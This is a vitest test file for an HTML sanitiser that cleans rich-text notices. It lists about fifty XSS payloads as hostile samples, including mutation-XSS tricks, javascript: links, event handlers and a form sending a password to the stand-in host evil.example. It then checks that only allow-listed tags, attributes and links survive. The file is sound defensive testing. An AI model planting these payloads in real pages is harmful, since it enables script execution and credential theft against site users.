import { describe, expect, it } from 'vitest'
import { cleanHtml, isBlank } from '../src/modules/desk/clean-html.ts'
import { picturesOf } from '../src/modules/resource/index.ts'

/** R-NOTICE-1: what a notice's text may hold. Each hostile sample must lose what makes it run, whatever else is left. */

const link = '/api/blade-resource/attach/file?id=382579132820623360'

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  `<img src="${link}" onload=alert(1)>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><a title="</style><img src onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="http://evil.example/pixel.gif">',
  `<img src="//evil.example${link}">`,
  `<img src="https://evil.example/?x=${link}">`,
  '<p style="background:url(http://evil.example/x)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</p>',
  '<p style="text-align:expression(alert(1))">x</p>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button>ok</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<p id="boot">x</p><p name="cookie" class="header">x</p>',
  '<!--><img src=x onerror=alert(1)-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="https://ok.example" target="_self" onclick="alert(1)">x</a>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '<b><i><u>'.repeat(500),
]

describe('R-NOTICE-1 the text of a notice', () => {
  it.each(hostile)('keeps nothing that runs of %j', (sample) => {
    const text = cleanHtml(sample)
    // What is left is well formed: tags of the list, with attributes of the list.
    for (const [, name, attributes] of text.matchAll(/<\/?([a-z0-9]+)((?:\s[^>]*)?)\/?>/gi)) {
      expect([
        'h2',
        'h3',
        'h4',
        'p',
        'blockquote',
        'pre',
        'ul',
        'ol',
        'li',
        'hr',
        'br',
        'strong',
        'em',
        'u',
        's',
        'sub',
        'sup',
        'code',
        'a',
        'img',
        'table',
        'colgroup',
        'col',
        'thead',
        'tbody',
        'tr',
        'th',
        'td',
      ]).toContain(name)
      for (const [, attribute] of (attributes ?? '').matchAll(/\s([a-z-]+)=/gi))
        expect([
          'href',
          'target',
          'rel',
          'src',
          'alt',
          'width',
          'height',
          'colspan',
          'rowspan',
          'start',
          'style',
        ]).toContain(attribute)
    }
    for (const [, href] of text.matchAll(/href="([^"]*)"/g))
      expect(href).toMatch(/^(https?:\/\/|mailto:|tel:|\/[^/\\])/)
    for (const [, src] of text.matchAll(/src="([^"]*)"/g)) expect(src).toBe(link)
    for (const [, style] of text.matchAll(/style="([^"]*)"/g))
      expect(style).toMatch(/^text-align:(left|center|right|justify)$/)
    expect(text.replace(/<[^>]*>/g, '')).not.toContain('<')
    // Cleaning again changes nothing: a text that mutates is not clean.
    expect(cleanHtml(text)).toBe(text)
  })

  it('keeps what notices are made of', () => {
    const text = `<h2 style="text-align:center">标题</h2><p><strong>粗</strong><em>斜</em><u>下</u><s>删</s> H<sub>2</sub>O x<sup>2</sup></p><ul><li>甲</li></ul><ol start="3"><li>乙</li></ol><blockquote><p>引</p></blockquote><table><tbody><tr><th colspan="2">头</th></tr><tr><td rowspan="2">格</td></tr></tbody></table><hr />`
    expect(cleanHtml(text)).toBe(text)
  })

  it('turns what Word and browsers write into it', () => {
    expect(
      cleanHtml('<h1>标题</h1><div class="MsoNormal" style="mso-list:l0;margin:1cm"><b>粗</b><o:p></o:p></div>'),
    ).toBe('<h2>标题</h2><p><strong>粗</strong></p>')
  })

  it('opens every link in a window that knows nothing of this one', () => {
    expect(cleanHtml('<a href="https://ok.example/a?b=1&amp;c=2" rel="opener">x</a>')).toBe(
      '<a href="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })

  it('stores the address of a picture without its leave', () => {
    expect(cleanHtml(`<img src="${link}&tenant=100001&expires=1&sign=abc" alt="图" width="200">`)).toBe(
      `<img src="${link}" alt="图" width="200" />`,
    )
    expect(picturesOf(`<p><img src="${link}" alt="" /><img src="${link}" alt="" /></p>`)).toEqual([
      '382579132820623360',
    ])
  })

  it('tells a text that shows nothing', () => {
    expect(['', '<p></p>', '<p>&nbsp;<br /></p>', '<p> \u200b</p>'].map((each) => isBlank(cleanHtml(each)))).toEqual([
      true,
      true,
      true,
      true,
    ])
    expect([`<img src="${link}">`, '<p>x</p>', '<hr>'].map((each) => isBlank(cleanHtml(each)))).toEqual([
      false,
      false,
      false,
    ])
  })
})
